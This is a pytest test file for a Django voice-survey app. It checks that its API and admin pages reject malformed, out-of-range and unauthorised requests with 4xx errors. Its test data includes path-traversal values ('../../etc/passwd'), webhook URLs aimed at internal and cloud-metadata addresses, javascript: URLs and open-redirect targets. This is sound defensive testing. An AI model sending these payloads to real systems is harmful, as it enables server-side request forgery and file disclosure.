"""Every door this release added or changed, tried by an attacker and a careless client: empty,
huge and malformed bodies, NUL characters, numbers and dates out of range, unknown ids, wrong
types, repeated submissions, missing CSRF tokens, the wrong method, and users who may only look,
may do nothing, or are not signed in. Each answers a 4xx (the error shape in the API, a message,
403 or 405 in the admin), never a 500, writes nothing half-way, logs no phone number and never
shows a secret again."""

import datetime as dt
import json
import logging
from urllib.parse import urlencode

import pytest
import time_machine
from django.contrib.auth.models import Permission
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from calls.models import ProviderAccount, ScheduledCall
from campaigns.models import Campaign
from contacts.models import Contact, Exclusion
from hooks.models import WebhookDelivery, WebhookSubscription
from tests.factories import (
    CallAttemptFactory,
    ContactFactory,
    RunningCampaignFactory,
    SurveyCampaignFactory,
    WebhookDeliveryFactory,
    WebhookSubscriptionFactory,
    book,
)
from tests.staff import staff_client
from tests.test_admin_scheduled_calls import form as booking_form
from tests.test_api_bad_input import assert_error
from voicesurvey.accounts.timezones import operator_zone

pytestmark = pytest.mark.django_db

PHONE = "+12125550142"
LATER = dt.datetime(2026, 11, 23, 19, 0, tzinfo=dt.UTC)
AD_HOC = "/api/v1/scheduled-calls/ad-hoc/"
BOOKINGS = "/api/v1/scheduled-calls/"
ACCOUNTS = "/api/v1/provider-accounts/"
SUBSCRIPTIONS = "/api/v1/webhook-subscriptions/"
DELIVERIES = "/api/v1/webhook-deliveries/"


@pytest.fixture(autouse=True)
def frozen(open_now):
    """The doors read the clock: Monday 2026-11-23 17:00 UTC, noon in New York."""
    with time_machine.travel(open_now, tick=False):
        yield


def post_raw(client, path, raw, content_type="application/json"):
    return client.post(path, data=raw, content_type=content_type)


def nothing_written():
    return (
        not ScheduledCall.objects.exists()
        and not Contact.objects.exists()
        and not Campaign.objects.exists()
    )


def no_phone_in(caplog, phone=PHONE) -> None:
    for record in caplog.records:
        assert phone not in record.getMessage(), record.getMessage()
        assert phone[2:] not in record.getMessage(), record.getMessage()


# --- the ad-hoc call --------------------------------------------------------------------------

AD_HOC_BAD_BODIES = {
    "empty object": {},
    "no message nor questions": {"phone": PHONE},
    "a list for the object": [{"phone": PHONE, "message": "Hi"}],
    "a string for the object": "phone=+12125550142",
    "a list for the phone": {"phone": [PHONE], "message": "Hi"},
    "an object for the message": {"phone": PHONE, "message": {"text": "Hi"}},
    "a junk phone": {"phone": "call me maybe", "message": "Hi"},
    "an overlong phone": {"phone": "+1" + "2" * 200, "message": "Hi"},
    "a message over its cap": {"phone": PHONE, "message": "x" * 5001},
    "an object for the questions": {"phone": PHONE, "questions": {"prompt": "Rate us"}},
    "a string for the questions": {"phone": PHONE, "questions": "Rate us"},
    "a list of strings for the questions": {"phone": PHONE, "questions": ["Rate us"]},
    "a list of lists for the questions": {"phone": PHONE, "questions": [[{"prompt": "Rate"}]]},
    "a question without prompt": {"phone": PHONE, "questions": [{"kind": "yes_no"}]},
    "a question of an unknown kind": {
        "phone": PHONE,
        "questions": [{"prompt": "Rate us", "kind": "telepathy"}],
    },
    "a question with nested junk": {
        "phone": PHONE,
        "questions": [{"prompt": {"a": [1, {"b": None}]}, "kind": ["yes_no"]}],
    },
    "more questions than allowed": {
        "phone": PHONE,
        "questions": [{"prompt": f"Question {n}?", "kind": "yes_no"} for n in range(101)],
    },
    "a position out of range": {
        "phone": PHONE,
        "questions": [{"prompt": "Rate us", "kind": "yes_no", "position": -1}],
    },
    "a huge position": {
        "phone": PHONE,
        "questions": [{"prompt": "Rate us", "kind": "yes_no", "position": 10**30}],
    },
    "two questions at one position": {
        "phone": PHONE,
        "questions": [
            {"prompt": "One?", "kind": "yes_no", "position": 1},
            {"prompt": "Two?", "kind": "yes_no", "position": 1},
        ],
    },
    "a scale upside down": {
        "phone": PHONE,
        "questions": [{"prompt": "Rate", "kind": "scale", "min_value": 9, "max_value": 1}],
    },
    "a scale beyond any integer": {
        "phone": PHONE,
        "questions": [{"prompt": "Rate", "kind": "scale", "min_value": 1, "max_value": 10**30}],
    },
    "an unknown time zone": {"phone": PHONE, "message": "Hi", "timezone": "Mars/Olympus"},
    "a time zone path": {"phone": PHONE, "message": "Hi", "timezone": "../../etc/passwd"},
    "an overlong time zone": {"phone": PHONE, "message": "Hi", "timezone": "E" * 65},
    "a number for the time zone": {"phone": PHONE, "message": "Hi", "timezone": 5},
    "not a date": {"phone": PHONE, "message": "Hi", "at": "tomorrow-ish"},
    "year 0": {"phone": PHONE, "message": "Hi", "at": "0000-01-01T10:00:00"},
    "year 10000": {"phone": PHONE, "message": "Hi", "at": "10000-01-01T10:00:00"},
    "29 February of 2027": {"phone": PHONE, "message": "Hi", "at": "2027-02-29T10:00:00"},
    "an offset no zone has": {"phone": PHONE, "message": "Hi", "at": "2026-12-01T10:00:00+20:00"},
    "year 9999 pushed past by its offset": {
        "phone": PHONE,
        "message": "Hi",
        "at": "9999-12-31T23:00:00-05:00",
    },
    "year 1 in the far east": {
        "phone": PHONE,
        "message": "Hi",
        "at": "0001-01-01T00:00:00+05:00",
    },
    "in the past": {"phone": PHONE, "message": "Hi", "at": "2020-01-01T10:00:00Z"},
    "a number for the time": {"phone": PHONE, "message": "Hi", "at": 1764000000},
    "junk rule": {"phone": PHONE, "message": "Hi", "rrule": "EVERY SO OFTEN"},
    "a rule with a negative interval": {
        "phone": PHONE,
        "message": "Hi",
        "rrule": "FREQ=DAILY;INTERVAL=-1;COUNT=2",
    },
    "a rule with an interval of 0": {
        "phone": PHONE,
        "message": "Hi",
        "rrule": "FREQ=DAILY;INTERVAL=0;COUNT=2",
    },
    "a rule with a word for the interval": {
        "phone": PHONE,
        "message": "Hi",
        "rrule": "FREQ=DAILY;INTERVAL=often;COUNT=2",
    },
    "a rule with a negative count": {
        "phone": PHONE,
        "message": "Hi",
        "rrule": "FREQ=DAILY;COUNT=-1",
    },
    "a rule until 13/40": {
        "phone": PHONE,
        "message": "Hi",
        "rrule": "FREQ=DAILY;UNTIL=20271340T000000Z",
    },
    "a rule until 29 February 2027": {
        "phone": PHONE,
        "message": "Hi",
        "rrule": "FREQ=DAILY;UNTIL=20270229",
    },
    "a rule until the last second of 9999, east of UTC": {
        "phone": PHONE,
        "message": "Hi",
        "timezone": "Asia/Tokyo",
        "at": "2026-11-24T10:00:00",
        "rrule": "FREQ=DAILY;UNTIL=99991231T235959Z",
    },
    "a rule until year 1, west of UTC": {
        "phone": PHONE,
        "message": "Hi",
        "timezone": "America/New_York",
        "rrule": "FREQ=DAILY;UNTIL=00010101T000000Z",
    },
    "wall-clock year 9999 that is 10000 in UTC": {
        "phone": PHONE,
        "message": "Hi",
        "timezone": "America/New_York",
        "at": "9999-12-31T23:00:00",
    },
    "wall-clock year 1 that is year 0 in UTC": {
        "phone": PHONE,
        "message": "Hi",
        "timezone": "Asia/Tokyo",
        "at": "0001-01-01T01:00:00",
    },
    "a rule with a count of 0": {"phone": PHONE, "message": "Hi", "rrule": "FREQ=DAILY;COUNT=0"},
    "a rule ending before it starts": {
        "phone": PHONE,
        "message": "Hi",
        "at": "2026-12-01T10:00:00",
        "rrule": "FREQ=DAILY;UNTIL=20261101T000000Z",
    },
    "a rule until year 10000": {
        "phone": PHONE,
        "message": "Hi",
        "rrule": "FREQ=YEARLY;UNTIL=100000101T000000Z",
    },
    "a rule with a DTSTART of its own": {
        "phone": PHONE,
        "message": "Hi",
        "rrule": "DTSTART:00010101T000000\nRRULE:FREQ=DAILY;COUNT=2",
    },
    "a rule that never occurs": {
        "phone": PHONE,
        "message": "Hi",
        "rrule": "FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30;COUNT=3",
    },
    "a list for the rule": {"phone": PHONE, "message": "Hi", "rrule": ["FREQ=DAILY", "COUNT=2"]},
    "retries out of range": {"phone": PHONE, "message": "Hi", "max_retries": 10**30},
    "negative retry delay": {"phone": PHONE, "message": "Hi", "retry_delay_minutes": -5},
    "a float for retries": {"phone": PHONE, "message": "Hi", "max_retries": 1.5},
    "a boolean for retries": {"phone": PHONE, "message": "Hi", "max_retries": True},
    "a voice over its cap": {"phone": PHONE, "message": "Hi", "voice": "v" * 41},
    "a language over its cap": {"phone": PHONE, "message": "Hi", "language": "l" * 17},
    "a NUL in the message": {"phone": PHONE, "message": "Hi\x00there"},
    "a NUL in the phone": {"phone": PHONE + "\x00", "message": "Hi"},
    "a NUL in a question": {
        "phone": PHONE,
        "questions": [{"prompt": "Rate\x00", "kind": "yes_no"}],
    },
    "a NUL in a key": {"phone": PHONE, "message": "Hi", "\x00": "x"},
}


@pytest.mark.parametrize("body", AD_HOC_BAD_BODIES.values(), ids=AD_HOC_BAD_BODIES.keys())
def test_a_bad_ad_hoc_call_is_a_400_and_books_nothing(api_client, body, caplog):
    with caplog.at_level(logging.DEBUG):
        response = api_client.post(AD_HOC, body, format="json")
    error = assert_error(response, 400)
    assert error["message"]
    assert nothing_written()
    no_phone_in(caplog)


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"{",
        b"null",
        b"[]",
        b'{"phone": "+12125550142", "message": "Hi",}',
        b'{"phone": NaN, "message": "Hi"}',
        b'{"phone": "+12125550142", "max_retries": Infinity, "message": "Hi"}',
        b"\xff\xfe\x00\x00",
        b'{"phone": "\\ud800", "message": "Hi"}',  # a lone surrogate
    ],
    ids=[
        "empty",
        "cut",
        "null",
        "list",
        "trailing comma",
        "NaN",
        "Infinity",
        "binary",
        "surrogate",
    ],
)
def test_a_malformed_ad_hoc_body_is_a_400(api_client, raw):
    response = post_raw(api_client, AD_HOC, raw)
    assert_error(response, 400)
    assert nothing_written()


def test_an_ad_hoc_body_above_the_cap_is_a_413(api_client, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    body = {"phone": PHONE, "message": "Hi", "note": "x" * 20_000}
    assert_error(api_client.post(AD_HOC, body, format="json"), 413, "too_large")
    assert nothing_written()


def test_a_form_encoded_ad_hoc_call_with_junk_is_a_400(api_client):
    response = post_raw(
        api_client,
        AD_HOC,
        "phone=%2B12125550142&questions=not-a-list&max_retries=lots",
        "application/x-www-form-urlencoded",
    )
    assert_error(response, 400)
    assert nothing_written()


def test_an_ad_hoc_call_sent_twice_books_twice_in_one_campaign(api_client):
    """A repeated submission is a second booking (the API has no idempotency key), but it
    reuses the campaign and the contact: nothing is duplicated that should not be."""
    body = {"phone": PHONE, "message": "Your parcel is on its way."}
    first = api_client.post(AD_HOC, body, format="json")
    second = api_client.post(AD_HOC, body, format="json")
    assert first.status_code == second.status_code == 201, second.content
    assert first.json()["campaign"] == second.json()["campaign"]
    assert Campaign.objects.count() == 1 and Contact.objects.count() == 1
    assert ScheduledCall.objects.count() == 2


def test_a_refused_ad_hoc_call_leaves_no_campaign_behind(api_client):
    """The campaign is made before the booking is checked: a bad time must undo it."""
    body = {"phone": PHONE, "message": "Hi", "at": "2020-01-01T10:00:00Z"}
    assert_error(api_client.post(AD_HOC, body, format="json"), 400)
    assert nothing_written()


@pytest.mark.parametrize("method", ["get", "put", "patch", "delete"])
def test_the_ad_hoc_door_takes_post_only(api_client, method):
    assert_error(getattr(api_client, method)(AD_HOC), 405, "method_not_allowed")


def test_the_ad_hoc_door_refuses_a_viewer_and_an_anonymous_client(viewer_client, anon_client):
    body = {"phone": PHONE, "message": "Hi"}
    assert_error(viewer_client.post(AD_HOC, body, format="json"), 403)
    assert_error(anon_client.post(AD_HOC, body, format="json"), 401)
    assert nothing_written()


def test_the_ad_hoc_door_refuses_a_booker_who_may_not_make_campaigns(django_user_model):
    user = django_user_model.objects.create_user("booker", password="pw")
    user.user_permissions.set(
        Permission.objects.filter(codename__in=["add_scheduledcall", "add_contact"])
    )
    client = APIClient()
    client.force_authenticate(user)
    assert_error(client.post(AD_HOC, {"phone": PHONE, "message": "Hi"}, format="json"), 403)
    assert nothing_written()


def test_a_session_client_without_a_csrf_token_cannot_book(django_user_model, admin_user):
    """The API also takes the admin's session: a cross-site form post must not book calls."""
    client = Client(enforce_csrf_checks=True)
    client.force_login(admin_user)
    response = client.post(
        AD_HOC, json.dumps({"phone": PHONE, "message": "Hi"}), content_type="application/json"
    )
    assert_error(response, 403)
    assert nothing_written()


@pytest.mark.parametrize(
    "change",
    [
        {"misfire_grace_seconds": 10**30},
        {"misfire_grace_seconds": 2**31},  # past a PostgreSQL integer
        {"misfire_grace_seconds": 86_401},
        {"misfire_grace_seconds": -1},
        {"max_retries": 11},
        {"retry_delay_minutes": 10**30},
    ],
)
def test_a_booking_setting_out_of_range_is_a_400_when_booked_or_changed(
    api_client, change, open_now
):
    contact = ContactFactory(phone=PHONE, campaign=SurveyCampaignFactory())
    body = {"contact": contact.pk, "run_at": "2026-11-23T13:00:00", "timezone": "America/New_York"}
    error = assert_error(api_client.post(BOOKINGS, {**body, **change}, format="json"), 400)
    assert set(error["details"]) == set(change)
    assert not ScheduledCall.objects.exists()
    call = book(contact, open_now)
    error = assert_error(api_client.patch(f"{BOOKINGS}{call.pk}/", change, format="json"), 400)
    assert set(error["details"]) == set(change)
    fresh = ScheduledCall.objects.get()
    assert (fresh.misfire_grace_seconds, fresh.max_retries, fresh.retry_delay_minutes) == (
        call.misfire_grace_seconds,
        call.max_retries,
        call.retry_delay_minutes,
    )


def test_a_series_that_runs_past_the_end_of_year_9999_stops_there():
    """Its last hours in New York are already year 10000 in UTC: the series ends, the dialler
    and the pages that list its occurrences do not crash."""
    from calls.booking.scheduling import occurrences

    call = ScheduledCall(
        run_at=dt.datetime(9999, 12, 31, 3, 0, tzinfo=dt.UTC),
        timezone="America/New_York",
        rrule="FREQ=HOURLY;COUNT=30",
        skipped_occurrences=[],
    )
    found = list(occurrences(call))
    assert len(found) == 21
    assert found[-1] == dt.datetime(9999, 12, 31, 23, 0, tzinfo=dt.UTC)


# --- provider accounts ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b'{"provider": "simulated", "calls_per_second": NaN}',
        b'{"provider": "simulated", "calls_per_second": Infinity}',
        b'{"provider": "simulated", "calls_per_second": -Infinity}',
        b'{"provider": "simulated", "calls_per_second": 1e999}',
        b'{"provider": "simulated", "max_concurrent_calls": 1e999}',
        b'{"provider": "simulated", "max_concurrent_calls": 99999999999999999999999}',
        b'{"provider": "simulated", "max_concurrent_calls": 2.5}',
        b'{"provider": "simulated", "max_concurrent_calls": [5]}',
        b'{"provider": "simulated", "calls_per_second": {"rate": 1}}',
        b'{"provider": ["simulated"]}',
        b'{"provider": "simulated", "account": "' + b"A" * 65 + b'"}',
        b'{"provider": "simulated", "account": "AC\\u0000"}',
        b'[{"provider": "simulated"}]',
    ],
)
def test_bad_provider_limits_are_a_400_and_save_nothing(api_client, raw):
    assert_error(post_raw(api_client, ACCOUNTS, raw), 400)
    assert not ProviderAccount.objects.exists()


@pytest.mark.parametrize("body", [{"calls_per_second": "NaN"}, {"max_concurrent_calls": -1}])
def test_a_bad_change_of_limits_keeps_the_old_ones(api_client, body):
    account = ProviderAccount.objects.create(
        provider="simulated", max_concurrent_calls=5, calls_per_second=2
    )
    assert_error(api_client.patch(f"{ACCOUNTS}{account.pk}/", body, format="json"), 400)
    account.refresh_from_db()
    assert (account.max_concurrent_calls, account.calls_per_second) == (5, 2)


@pytest.mark.parametrize("pk", ["999999", "abc", "-1", "1.5", "99999999999999999999999"])
def test_an_unknown_provider_account_is_a_404(api_client, pk):
    assert_error(api_client.get(f"{ACCOUNTS}{pk}/"), 404)
    assert_error(api_client.patch(f"{ACCOUNTS}{pk}/", {}, format="json"), 404)


def test_the_limits_in_force_are_read_only_and_not_paged(api_client, viewer_client, anon_client):
    assert viewer_client.get(f"{ACCOUNTS}current/").status_code == 200
    assert_error(api_client.post(f"{ACCOUNTS}current/", {}, format="json"), 405)
    assert_error(anon_client.get(f"{ACCOUNTS}current/"), 401)
    assert_error(api_client.get(ACCOUNTS, {"limit": 5}), 400, "invalid")


def test_a_viewer_cannot_change_or_remove_limits(viewer_client):
    account = ProviderAccount.objects.create(provider="simulated", max_concurrent_calls=5)
    url = f"{ACCOUNTS}{account.pk}/"
    assert_error(viewer_client.patch(url, {"max_concurrent_calls": 50}, format="json"), 403)
    assert_error(viewer_client.delete(url), 403)
    account.refresh_from_db()
    assert account.max_concurrent_calls == 5


# --- webhook subscriptions --------------------------------------------------------------------

SUBSCRIPTION = {"url": "https://hooks.example.com/in", "event_types": ["attempt.finished"]}

BAD_SUBSCRIPTIONS = {
    "javascript:": {"url": "javascript:alert(1)"},
    "file:": {"url": "file:///etc/passwd"},
    "ftp:": {"url": "ftp://hooks.example.com/in"},
    "gopher:": {"url": "gopher://hooks.example.com:70/_x"},
    "no scheme": {"url": "hooks.example.com/in"},
    "a URL over its cap": {"url": "https://hooks.example.com/" + "a" * 2000},
    "a NUL in the URL": {"url": "https://hooks.example.com/\x00"},
    "loopback": {"url": "http://127.0.0.1:8000/in"},
    "loopback in IPv6": {"url": "http://[::1]/in"},
    "IPv4 mapped in IPv6": {"url": "http://[::ffff:127.0.0.1]/in"},
    "localhost": {"url": "http://localhost/in"},
    "a name under localhost": {"url": "http://api.localhost/in"},
    "a private network": {"url": "http://10.1.2.3/in"},
    "link-local (cloud metadata)": {"url": "http://169.254.169.254/latest/meta-data/"},
    "unspecified": {"url": "http://0.0.0.0/in"},
    "a port out of range": {"url": "https://hooks.example.com:99999/in"},
    "a list for the URL": {"url": ["https://hooks.example.com/in"]},
    "no event": {"event_types": []},
    "an unknown event": {"event_types": ["contact.teleported"]},
    "a string for the events": {"event_types": "attempt.finished"},
    "an object for the events": {"event_types": {"attempt.finished": True}},
    "a null event": {"event_types": [None]},
    "a string for enabled": {"enabled": "perhaps"},
    "a description over its cap": {"description": "d" * 5000},
}


@pytest.mark.parametrize("change", BAD_SUBSCRIPTIONS.values(), ids=BAD_SUBSCRIPTIONS.keys())
def test_a_bad_subscription_is_a_400_and_saves_nothing(api_client, settings, change):
    settings.WEBHOOK_ALLOW_PRIVATE_URLS = False
    error = assert_error(
        api_client.post(SUBSCRIPTIONS, {**SUBSCRIPTION, **change}, format="json"), 400
    )
    assert set(error["details"]) <= {*change, "non_field_errors"}, error
    assert not WebhookSubscription.objects.exists()


@pytest.mark.parametrize("change", BAD_SUBSCRIPTIONS.values(), ids=BAD_SUBSCRIPTIONS.keys())
def test_a_bad_change_to_a_subscription_keeps_it_as_it_was(api_client, settings, change):
    settings.WEBHOOK_ALLOW_PRIVATE_URLS = False
    subscription = WebhookSubscriptionFactory(url="https://hooks.example.com/kept")
    url = f"{SUBSCRIPTIONS}{subscription.pk}/"
    assert_error(api_client.patch(url, change, format="json"), 400)
    subscription.refresh_from_db()
    assert subscription.url == "https://hooks.example.com/kept"
    assert subscription.event_types == ["attempt.finished"]


def test_an_event_named_twice_is_kept_once(api_client):
    body = {**SUBSCRIPTION, "event_types": ["attempt.finished", "attempt.finished"]}
    response = api_client.post(SUBSCRIPTIONS, body, format="json")
    assert response.status_code == 201, response.content
    assert response.json()["event_types"] == ["attempt.finished"]


def test_the_secret_is_shown_at_creation_only(api_client):
    created = api_client.post(SUBSCRIPTIONS, SUBSCRIPTION, format="json")
    assert created.status_code == 201
    secret = created.json()["secret"]
    assert len(secret) >= 20
    pk = created.json()["id"]
    answers = [
        api_client.get(SUBSCRIPTIONS),
        api_client.get(f"{SUBSCRIPTIONS}{pk}/"),
        api_client.patch(f"{SUBSCRIPTIONS}{pk}/", {"description": "x"}, format="json"),
        api_client.put(f"{SUBSCRIPTIONS}{pk}/", SUBSCRIPTION, format="json"),
        api_client.patch(f"{SUBSCRIPTIONS}{pk}/", {"secret": "mine"}, format="json"),
        api_client.get("/api/schema/"),
    ]
    for answer in answers:
        assert answer.status_code == 200, answer.content
        assert secret.encode() not in answer.content
    assert WebhookSubscription.objects.get().secret == secret  # not set by the client


def test_a_viewer_reads_subscriptions_but_cannot_change_them(viewer_client, anon_client):
    subscription = WebhookSubscriptionFactory()
    url = f"{SUBSCRIPTIONS}{subscription.pk}/"
    listed = viewer_client.get(SUBSCRIPTIONS)
    assert listed.status_code == 200 and subscription.secret.encode() not in listed.content
    assert_error(viewer_client.post(SUBSCRIPTIONS, SUBSCRIPTION, format="json"), 403)
    assert_error(viewer_client.patch(url, {"enabled": False}, format="json"), 403)
    assert_error(viewer_client.delete(url), 403)
    assert_error(anon_client.get(SUBSCRIPTIONS), 401)
    assert WebhookSubscription.objects.get().enabled


# --- webhook deliveries -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        {"event_id": "not-a-uuid"},
        {"event_id": "\x00"},
        {"subscription": "abc"},
        {"subscription": "99999999999999999999999"},
        {"status": "lost"},
        {"event_type": "contact.teleported"},
        {"created_after": "yesterday"},
        {"created_after": "0000-01-01T00:00:00Z"},
        {"created_before": "10000-01-01T00:00:00Z"},
        {"created_before": "2027-02-29T00:00:00Z"},
        {"ordering": "payload__secret"},
        {"page": "0"},
        {"page": "-1"},
        {"page_size": "lots", "page": "x"},
        {"offset": "10"},
        {"cursor": "abc"},
    ],
)
def test_a_bad_delivery_filter_is_a_4xx_in_the_error_shape(api_client, query):
    WebhookDeliveryFactory()
    response = api_client.get(DELIVERIES, query)
    if response.status_code == 200:  # a filter DRF ignores by design (ordering on a field)
        assert "ordering" in query
        return
    assert_error(response, response.status_code)
    assert 400 <= response.status_code < 500


@pytest.mark.parametrize("pk", ["999999", "abc", "-1"])
def test_resending_an_unknown_delivery_is_a_404(api_client, pk):
    assert_error(api_client.post(f"{DELIVERIES}{pk}/resend/"), 404)


def test_a_viewer_cannot_resend_a_delivery(viewer_client, anon_client, now):
    delivery = WebhookDeliveryFactory(status="failed", next_attempt_at=None)
    url = f"{DELIVERIES}{delivery.pk}/resend/"
    assert_error(viewer_client.post(url), 403)
    assert_error(anon_client.post(url), 401)
    delivery.refresh_from_db()
    assert delivery.status == "failed"


def test_resend_takes_post_only_and_deliveries_cannot_be_written(api_client):
    delivery = WebhookDeliveryFactory()
    assert_error(api_client.get(f"{DELIVERIES}{delivery.pk}/resend/"), 405)
    assert_error(api_client.post(DELIVERIES, {}, format="json"), 405)
    assert_error(api_client.delete(f"{DELIVERIES}{delivery.pk}/"), 405)


def test_resending_twice_queues_one_delivery(api_client, django_capture_on_commit_callbacks):
    delivery = WebhookDeliveryFactory(status="failed")
    with django_capture_on_commit_callbacks():
        for _ in range(2):
            assert api_client.post(f"{DELIVERIES}{delivery.pk}/resend/").status_code == 200
    assert WebhookDelivery.objects.count() == 1
    assert WebhookDelivery.objects.get().status == "pending"


# --- attempts of a booking --------------------------------------------------------------------


@pytest.mark.parametrize(
    "value", ["abc", "-1", "1.5", "99999999999999999999999", "\x00", "1,2", "[1]"]
)
def test_a_bad_scheduled_call_filter_on_attempts_is_a_400(api_client, value):
    assert_error(api_client.get("/api/v1/attempts/", {"scheduled_call": value}), 400, "invalid")


def test_an_unknown_scheduled_call_filter_on_attempts_is_a_400(api_client):
    error = assert_error(
        api_client.get("/api/v1/attempts/", {"scheduled_call": "424242"}), 400, "invalid"
    )
    assert "scheduled_call" in error["details"]


# --- the admin's own pages --------------------------------------------------------------------

LIVE = reverse("admin:dashboard_live")
TIME_ZONE = reverse("operator_time_zone")


def control_url(campaign_pk, action, back=None):
    url = reverse("admin:campaigns_campaign_control", args=[campaign_pk, action])
    return url if back is None else f"{url}?{urlencode({'next': back})}"


@pytest.fixture
def viewer_staff(client, django_user_model):
    """A staff user who holds every view_* permission and nothing else."""
    user = django_user_model.objects.create_user("looker", password="pw", is_staff=True)
    user.user_permissions.set(Permission.objects.filter(codename__startswith="view_"))
    client.force_login(user)
    return client


@pytest.fixture
def csrf_admin(admin_user):
    client = Client(enforce_csrf_checks=True)
    client.force_login(admin_user)
    return client


def test_the_wallboard_json_is_no_door_for_a_stranger(client, django_user_model, admin_user):
    RunningCampaignFactory(name="Secret plans")
    anonymous = Client().get(LIVE)
    assert anonymous.status_code == 302 and "login" in anonymous["Location"]
    nobody = staff_client(client, django_user_model, username="nobody")
    refused = nobody.get(LIVE)
    assert refused.status_code == 403 and b"Secret plans" not in refused.content
    boss = Client()
    boss.force_login(admin_user)
    answer = boss.get(LIVE, {"campaign": "x", "since": "10000-01-01"})
    assert answer.status_code == 200 and answer["Content-Type"] == "application/json"


@pytest.mark.parametrize(
    "action",
    ["delete", "delete_selected", "complete", "START", "pause.", "%00", "x" * 300],
)
def test_a_control_button_with_an_unknown_action_changes_nothing(admin_client, action):
    campaign = RunningCampaignFactory()
    response = admin_client.post(control_url(campaign.pk, action))
    assert response.status_code == 404
    campaign.refresh_from_db()
    assert campaign.status == Campaign.Status.RUNNING and Campaign.objects.count() == 1


def test_a_control_button_for_a_campaign_that_is_not_there_is_a_404(admin_client):
    assert admin_client.post(control_url(424242, "pause")).status_code == 404
    big = reverse("admin:campaigns_campaign_control", args=[1, "pause"]).replace(
        "/1/", "/99999999999999999999999/"
    )
    assert admin_client.post(big).status_code == 404


@pytest.mark.parametrize(
    "back",
    [
        "https://evil.example.com/",
        "//evil.example.com/",
        "///evil.example.com/",
        "/\\evil.example.com/",
        "\\\\evil.example.com",
        "https:evil.example.com",
        "javascript:alert(1)",
        " https://evil.example.com/",
        "https://testserver@evil.example.com/",
        "\x00https://evil.example.com/",
    ],
)
def test_a_control_button_never_sends_the_browser_away(admin_client, back):
    campaign = RunningCampaignFactory()
    response = admin_client.post(control_url(campaign.pk, "pause", back))
    if "\x00" in back:  # refused before the view (voicesurvey/query_strings.py)
        assert response.status_code == 400
        return
    assert response.status_code == 302
    assert response["Location"] == reverse("admin:campaigns_campaign_change", args=[campaign.pk])


def test_a_control_button_pressed_twice_says_so_the_second_time(admin_client):
    campaign = RunningCampaignFactory(name="Twice")
    admin_client.post(control_url(campaign.pk, "pause"))
    again = admin_client.post(control_url(campaign.pk, "pause"), follow=True)
    assert again.status_code == 200
    assert [m.level_tag for m in again.context["messages"]][-1] == "error"
    campaign.refresh_from_db()
    assert campaign.status == Campaign.Status.PAUSED


def test_a_viewer_cannot_press_the_control_buttons(viewer_staff):
    campaign = RunningCampaignFactory()
    for action in ("pause", "cancel"):
        assert viewer_staff.post(control_url(campaign.pk, action)).status_code == 403
    campaign.refresh_from_db()
    assert campaign.status == Campaign.Status.RUNNING


@pytest.mark.parametrize(
    "zone", ["Mars/Olympus", "../../etc/passwd", "Europe/Paris\x00", "", "x" * 10_000, "UTC "]
)
def test_the_time_zone_page_keeps_only_a_real_zone(admin_client, admin_user, zone):
    before = operator_zone(admin_user)
    response = admin_client.post(TIME_ZONE, {"time_zone": zone})
    assert response.status_code in (200, 302)
    admin_user.refresh_from_db()
    if zone == "":
        assert response.status_code == 302  # back to the server's zone
    else:
        assert response.status_code == 200 and response.context["form"].errors
        assert operator_zone(admin_user) == before


def test_the_time_zone_page_needs_a_csrf_token_and_a_staff_login(csrf_admin, admin_user):
    assert csrf_admin.post(TIME_ZONE, {"time_zone": "Asia/Tokyo"}).status_code == 403
    assert operator_zone(admin_user) != "Asia/Tokyo"
    anonymous = Client().post(TIME_ZONE, {"time_zone": "Asia/Tokyo"})
    assert anonymous.status_code == 302 and "login" in anonymous["Location"]


# --- the contact moves ------------------------------------------------------------------------

MOVES = ["contact_retry", "contact_reset", "contact_call_now"]


@pytest.mark.parametrize("move", MOVES)
def test_a_viewer_cannot_move_a_contact(viewer_staff, move):
    contact = ContactFactory(
        campaign=SurveyCampaignFactory(), state="not_reached", next_attempt_at=LATER
    )
    response = viewer_staff.post(reverse(f"admin:{move}", args=[contact.pk]))
    assert response.status_code == 403
    contact.refresh_from_db()
    assert contact.state == "not_reached" and contact.next_attempt_at == LATER
    assert not ScheduledCall.objects.exists()


def test_a_viewer_cannot_open_nor_post_the_do_not_call_page(viewer_staff):
    contact = ContactFactory()
    url = reverse("admin:contact_do_not_call", args=[contact.pk])
    assert viewer_staff.get(url).status_code == 403
    assert viewer_staff.post(url, {"everywhere": "1"}).status_code == 403
    assert not Exclusion.objects.exists()


@pytest.mark.parametrize("move", [*MOVES, "contact_do_not_call"])
def test_a_move_of_a_contact_that_is_not_there_is_a_404(admin_client, move):
    assert admin_client.post(reverse(f"admin:{move}", args=[424242])).status_code == 404
    assert admin_client.get(reverse(f"admin:{move}", args=[424242])).status_code == 404


@pytest.mark.parametrize("move", MOVES)
def test_a_move_by_get_or_without_csrf_changes_nothing(admin_client, csrf_admin, move):
    contact = ContactFactory(
        campaign=SurveyCampaignFactory(), state="not_reached", next_attempt_at=LATER
    )
    url = reverse(f"admin:{move}", args=[contact.pk])
    assert admin_client.get(url).status_code == 302
    assert csrf_admin.post(url).status_code == 403
    contact.refresh_from_db()
    assert contact.state == "not_reached" and contact.next_attempt_at == LATER
    assert not ScheduledCall.objects.exists()


@pytest.mark.parametrize(
    "state", ["completed", "exhausted", "refused", "excluded", "invalid", "in_progress"]
)
def test_call_now_where_the_page_offers_no_button_says_why(admin_client, state):
    contact = ContactFactory(campaign=SurveyCampaignFactory(), state=state)
    response = admin_client.post(reverse("admin:contact_call_now", args=[contact.pk]), follow=True)
    assert response.status_code == 200
    assert [m.level_tag for m in response.context["messages"]] == ["error"]
    assert not ScheduledCall.objects.exists()


def test_call_now_pressed_twice_books_one_call(admin_client):
    contact = ContactFactory(campaign=SurveyCampaignFactory())
    url = reverse("admin:contact_call_now", args=[contact.pk])
    admin_client.post(url)
    again = admin_client.post(url, follow=True)
    assert "already booked for now" in again.content.decode()
    assert ScheduledCall.objects.filter(contact=contact).count() == 1


@pytest.mark.parametrize(
    "data",
    [
        {"reason": "no scope"},
        {"everywhere": "maybe"},
        {"everywhere": "1", "reason": "r" * 501},
        {"everywhere": "1\x00"},
        {"everywhere": "1", "reason": "spam\x00"},
    ],
)
def test_the_do_not_call_page_refuses_junk_with_a_message(admin_client, data):
